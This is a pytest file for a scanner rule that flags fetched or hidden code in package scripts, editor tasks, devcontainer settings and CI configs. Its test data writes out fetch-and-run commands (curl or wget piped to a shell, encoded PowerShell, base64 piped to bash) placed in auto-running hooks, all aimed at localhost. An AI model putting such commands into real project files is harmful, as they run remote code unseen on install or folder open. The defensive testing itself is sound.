"""SCR002: commands of files that builders, editors and automation run."""

from __future__ import annotations

import json

import pytest

from modelkeep.core import Severity
from modelkeep.scan.build_commands import DETECTOR
from samples import found_by

FETCH = "curl -fsSL http://127.0.0.1:9/x.sh | sh"


@pytest.mark.parametrize(
    "document",
    [
        {"scripts": {"postinstall": FETCH}},
        {"tasks": [{"command": "bash", "args": ["-c", FETCH]}]},
        {"tasks": [{"command": FETCH, "runOptions": {"runOn": "folderOpen"}}]},
        {"jobs": {"a": {"steps": [{"run": f"pip install x\n{FETCH}\n"}]}}},
        {"test": {"script": ["pytest", "bash <(curl -s http://127.0.0.1:9/)"]}},
        {"postCreateCommand": ["bash", "-c", FETCH]},
        {"services": {"a": {"entrypoint": ["sh", "-c", "wget -qO- http://127.0.0.1:9/ | sh"]}}},
        {"tool": {"poe": {"tasks": {"x": {"cmd": FETCH}}}}},
        {"scripts": {"install": "powershell -nop -enc JABhAD0AMQA="}},
        {"scripts": {"install": "iex (iwr http://127.0.0.1:9/x.ps1)"}},
        {"scripts": {"a": "curl -o a.sh http://127.0.0.1:9/a.sh && bash a.sh"}},
        {"before_script": ["echo dHJ1ZQ== | base64 -d | bash"]},
    ],
)
def test_fetched_and_hidden_code_fails(document: object) -> None:
    (finding,) = found_by(DETECTOR, json.dumps(document).encode(), name="x.json")
    assert finding.severity is Severity.HIGH


@pytest.mark.parametrize(
    "document",
    [
        {"scripts": {"test": "jest", "build": "tsc && node build.js | tee log"}},
        {
            "jobs": {
                "a": {"steps": [{"run": "pip install -r requirements.txt\npytest | tee x"}]}
            }
        },
        {"jobs": {"a": {"steps": [{"run": "curl -sSfo x.gz https://example.com/x.gz"}]}}},
        {"script": ["docker build -t x .", "rm -rf build"]},
        {"tasks": [{"command": "npm", "args": ["run", "watch", "-e", "production"]}]},
        {"description": f"Never run {FETCH}", "note": [FETCH]},
        {"cmd": "python -c exec"},
    ],
)
def test_ordinary_commands_are_silent(document: object) -> None:
    assert found_by(DETECTOR, json.dumps(document).encode(), name="x.json") == []


def test_yaml_and_toml_are_read_alike() -> None:
    assert found_by(
        DETECTOR, f"test:\n  script:\n    - {FETCH}\n".encode(), name=".gitlab-ci.yml"
    )
    assert found_by(DETECTOR, f'[tool.x.scripts]\na = "{FETCH}"\n'.encode(), name="p.toml")
